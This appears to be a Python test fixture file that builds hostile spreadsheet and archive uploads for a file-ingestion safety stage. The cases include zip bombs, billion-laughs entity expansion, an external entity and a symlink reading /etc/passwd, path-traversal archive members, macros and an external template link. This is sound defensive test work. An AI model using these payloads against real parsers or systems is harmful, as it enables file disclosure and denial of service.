"""Bad files of the safety stage: wrong types, bad packages, dangerous parts, bombs."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

from ingestion.parsing.limits import MAX_FILE_BYTES, MIB
from tests.hostile.base import (
    HostileFile,
    Make,
    csv_bytes,
    good_workbook,
    plain_file,
    replacing,
    sheet_part,
    workbook,
    workbook_adding,
    workbook_with,
)

NOTES = sheet_part("notes")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><worksheet><sheetData>&c;</sheetData></worksheet>'
)
_EXTERNAL = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook>&e;</workbook>'


def _oversize(folder: Path) -> list[Path]:
    path = folder / "借据.csv"
    with path.open("wb") as stream:
        stream.truncate(MAX_FILE_BYTES + 1)
    return [path]


def _oversize_workbook(folder: Path) -> list[Path]:
    path = good_workbook(folder)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/media/image1.png", bytes(51 * MIB))
    return [path]


def _cut(fraction: float) -> Make:
    def make(folder: Path) -> list[Path]:
        path = good_workbook(folder)
        content = path.read_bytes()
        path.write_bytes(content[: int(len(content) * fraction)])
        return [path]

    return make


def _flipped(folder: Path) -> list[Path]:
    """Damage the compressed data of the sheet 借据."""
    path = good_workbook(folder)
    with zipfile.ZipFile(path) as archive:
        start = archive.getinfo(NOTES).header_offset + 30 + len(NOTES) + 20
    content = bytearray(path.read_bytes())
    content[start : start + 40] = bytes(40)
    path.write_bytes(content)
    return [path]


def _no_directory(folder: Path) -> list[Path]:
    path = good_workbook(folder)
    content = path.read_bytes()
    path.write_bytes(content[: content.rfind(b"PK\x05\x06")] + bytes(64))
    return [path]


def _bomb(megabytes: int) -> Make:
    def make(folder: Path) -> list[Path]:
        path = good_workbook(folder)
        with (
            zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
            archive.open("xl/worksheets/sheet99.xml", "w", force_zip64=True) as stream,
        ):
            for _ in range(megabytes):
                stream.write(b" " * MIB)
        return [path]

    return make


def _zip(name: str, members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for member, content in members:
            archive.writestr(member, content)
    return target.getvalue()


def _zip_file(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> Make:
    return plain_file("报送.zip", _zip("报送.zip", members, method))


def _duplicates(folder: Path) -> list[Path]:
    path = good_workbook(folder)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(NOTES.upper(), b"<worksheet/>")
    return [path]


def _symlink(folder: Path) -> list[Path]:
    info = zipfile.ZipInfo("借据.csv")
    info.external_attr = 0o120777 << 16
    path = folder / "报送.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    return [path]


def _encrypted_member(folder: Path) -> list[Path]:
    """Set the encryption bit of the only member, as a password-protected archive has it."""
    content = bytearray(_zip("x", [("借据.csv", csv_bytes("notes"))]))
    content[6] |= 1
    content[content.rfind(b"PK\x01\x02") + 8] |= 1
    path = folder / "报送.zip"
    path.write_bytes(content)
    return [path]


def _claiming_members(folder: Path) -> list[Path]:
    """Let the end record claim a directory of millions of entries."""
    path = good_workbook(folder)
    content = bytearray(path.read_bytes())
    position = content.rfind(b"PK\x05\x06")
    struct.pack_into("<HHL", content, position + 8, 65_535, 65_535, 40 * MIB)
    path.write_bytes(content)
    return [path]


def _lying_size(folder: Path) -> list[Path]:
    """Let the directory claim that the sheet 借据 is small."""
    path = good_workbook(folder)
    content = bytearray(path.read_bytes())
    entry = content.rfind(NOTES.encode()) - 46
    struct.pack_into("<L", content, entry + 24, 100)
    path.write_bytes(content)
    return [path]


def _shared_text_bomb(folder: Path) -> list[Path]:
    """One long shared text, used by four hundred thousand cells."""
    cells = b"".join(
        b'<row r="%d">%s</row>' % (row, b"".join(b'<c r="%c%d" t="s"><v>0</v></c>' % (65 + i, row) for i in range(4)))
        for row in range(2, 100_002)
    )
    edits = {NOTES: lambda content: content.replace(b"</sheetData>", cells + b"</sheetData>")}
    return [workbook(folder, edits, {SHARED: _shared_text(30_000)})]


def _shared_text(length: int) -> bytes:
    return b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>%s</t></si></sst>' % _word(
        length
    )


def _word(length: int) -> bytes:
    return bytes(97 + i * 7 % 26 for i in range(length))


def _many(folder: Path) -> list[Path]:
    path = folder / "借据.csv"
    path.write_bytes(csv_bytes("notes"))
    return [path] * 201


SHARED = "xl/sharedStrings.xml"
CONTENT_TYPES = "[Content_Types].xml"
WORKBOOK = "xl/workbook.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
_OFFICE = b'<Types><Override PartName="/x" ContentType="application/%s"/></Types>'
_MAIN = b"spreadsheetml.sheet.main+xml"
_LINK = (
    b'<Relationship Id="rIdX" Type="http://x/attachedTemplate" Target="http://198.51.100.7/x.dotm" '
    b'TargetMode="External"/></Relationships>'
)
_SHEETS = b"".join(b'<sheet name="s%d" sheetId="%d"/>' % (i, i + 100) for i in range(10_000)) + b"</sheets>"


def _date_1904(content: bytes) -> bytes:
    return content.replace(b"<workbookPr", b'<workbookPr date1904="1"', 1)


CASES = [
    HostileFile("empty file", plain_file("报送.xlsx", b""), "F-01"),
    HostileFile("file over the limit", _oversize, "F-02"),
    HostileFile("workbook over the limit", _oversize_workbook, "F-02"),
    HostileFile("PDF as xlsx", plain_file("报送.xlsx", b"%PDF-1.7 ..."), "F-03"),
    HostileFile("picture as csv", plain_file("借据.csv", b"\x89PNG\r\n\x1a\n0000"), "F-03"),
    HostileFile("program as xlsx", plain_file("报送.xlsx", b"MZ\x90\x00" * 20), "F-03"),
    HostileFile("rar as zip", plain_file("报送.zip", b"Rar!\x1a\x07\x01\x00"), "F-03"),
    HostileFile("7z as zip", plain_file("报送.zip", b"7z\xbc\xaf\x27\x1c"), "F-03"),
    HostileFile("gzip as csv", plain_file("借据.csv", b"\x1f\x8b\x08\x00rest"), "F-03"),
    HostileFile("Word as xlsx", workbook_with(CONTENT_TYPES, lambda _: _OFFICE % b"wordprocessingml"), "F-03"),
    HostileFile(
        "xlsb as xlsx", workbook_with(CONTENT_TYPES, lambda _: _OFFICE % b"vnd.ms-excel.sheet.binary.main"), "F-03"
    ),
    HostileFile(
        "ods as xlsx", plain_file("报送.xlsx", _zip("x", [("mimetype", b"x"), ("content.xml", b"<x/>")])), "F-03"
    ),
    HostileFile("HTML as xls", plain_file("报送.xls", b"<html><table><tr><td>1</td></tr></table>"), "F-04"),
    HostileFile("HTML as xlsx", plain_file("报送.xlsx", b"\xef\xbb\xbf<!DOCTYPE html><p>x"), "F-04"),
    HostileFile("HTML as csv", plain_file("借据.csv", b"<html><body>login</body></html>"), "F-04"),
    HostileFile("XML spreadsheet as xls", plain_file("报送.xls", b'<?xml version="1.0"?><Workbook/>'), "F-04"),
    HostileFile("CSV as xlsx", plain_file("借据.xlsx", csv_bytes("notes")), "F-04"),
    HostileFile("xlsx as csv", lambda f: [good_workbook(f).rename(f / "借据.csv")], "F-04"),
    HostileFile("xls as xlsx", plain_file("报送.xlsx", OLE + bytes(2000)), "F-05"),
    HostileFile(
        "password-protected workbook",
        plain_file("报送.xlsx", OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)),
        "F-06",
    ),
    HostileFile("password-protected archive", _encrypted_member, "F-06"),
    HostileFile("first half of a workbook", _cut(0.5), "F-07"),
    HostileFile("workbook without its last bytes", _cut(0.995), "F-07"),
    HostileFile("zip signature and nothing else", plain_file("报送.xlsx", b"PK\x03\x04"), "F-07"),
    HostileFile("workbook without directory", _no_directory, "F-07"),
    HostileFile("damaged compressed data", _flipped, "F-07"),
    HostileFile("directory lies about size", _lying_size, "F-07"),
    HostileFile("bomb of 512 MiB", _bomb(512), "F-08"),
    HostileFile("bomb within the size limit", _bomb(100), "F-09"),
    HostileFile("six hundred members", _zip_file([(f"{i}.csv", b"x") for i in range(600)]), "F-10"),
    HostileFile("end record claims millions", _claiming_members, "F-10"),
    HostileFile("same member twice", _duplicates, "F-11"),
    HostileFile("member leads upwards", _zip_file([("../../借据.csv", b"x")]), "F-12"),
    HostileFile("member with absolute path", _zip_file([("/etc/借据.csv", b"x")]), "F-12"),
    HostileFile("member with drive letter", _zip_file([("C:\\借据.csv", b"x")]), "F-12"),
    HostileFile("member is a link", _symlink, "F-13"),
    HostileFile("archive in an archive", _zip_file([("a.zip", _zip("a", [("b", b"x")]))]), "F-14"),
    HostileFile("archive disguised as csv", _zip_file([("借据.csv", _zip("a", [("b", b"x")]))]), "F-14"),
    HostileFile("program in an archive", _zip_file([("借据.exe", b"MZ")]), "F-14"),
    HostileFile("macro project", workbook_adding("xl/vbaProject.bin", OLE), "F-15"),
    HostileFile(
        "macro type only", workbook_with(CONTENT_TYPES, replacing(_MAIN, b"sheet.macroEnabled.main+xml")), "F-15"
    ),
    HostileFile("Excel 4 macro sheet", workbook_adding("xl/macrosheets/sheet1.xml", b"<x/>"), "F-15"),
    HostileFile("external link", workbook_adding("xl/externalLinks/externalLink1.xml", b"<x/>"), "F-16"),
    HostileFile("DDE link", workbook_adding("xl/externalLinks/externalLink2.xml", b"<ddeLink/>"), "F-16"),
    HostileFile("data connection", workbook_adding("xl/connections.xml", b"<connections/>"), "F-16"),
    HostileFile("relation to the outside", workbook_with(RELATIONS, replacing(b"</Relationships>", _LINK)), "F-16"),
    HostileFile("embedded object", workbook_adding("xl/embeddings/oleObject1.bin", OLE), "F-17"),
    HostileFile("ActiveX control", workbook_adding("xl/activeX/activeX1.xml", b"<x/>"), "F-17"),
    HostileFile("billion laughs in a sheet", workbook_with(NOTES, lambda _: _ENTITIES), "F-18"),
    HostileFile("entity in shared texts", workbook_adding(SHARED, _ENTITIES), "F-18"),
    HostileFile("external entity in workbook", workbook_with(WORKBOOK, lambda _: _EXTERNAL), "F-18"),
    HostileFile("ten thousand sheets", workbook_with(WORKBOOK, replacing(b"</sheets>", _SHEETS)), "F-19"),
    HostileFile("shared text reused until memory ends", _shared_text_bomb, "F-20"),
    HostileFile(
        "over-long shared text",
        workbook_adding(SHARED, _shared_text(MIB)),
        "F-24",
    ),
    HostileFile("1904 dates", workbook_with(WORKBOOK, _date_1904), "F-25"),
    HostileFile("package without workbook part", lambda f: [workbook(f, {}, dropped=(WORKBOOK,))], "F-26"),
    HostileFile("package without a sheet part", lambda f: [workbook(f, {}, dropped=(NOTES,))], "F-26"),
    HostileFile("sheet that is no XML", workbook_with(NOTES, lambda _: b"<worksheet><sheetData><row><c"), "F-26"),
    HostileFile("workbook part that is no XML", workbook_with(WORKBOOK, lambda _: b"hello"), "F-26"),
    HostileFile("sheet in UTF-16", workbook_with(NOTES, lambda x: x.decode().encode("utf-16")), "F-26"),
    HostileFile("file that is not there", lambda f: [f / "没有.xlsx"], "F-27"),
    HostileFile("folder instead of a file", lambda f: [f], "F-27"),
    HostileFile("bzip2 archive", _zip_file([("借据.csv", b"x")], zipfile.ZIP_BZIP2), "F-28"),
    HostileFile("two hundred and one files", _many, "F-29"),
]
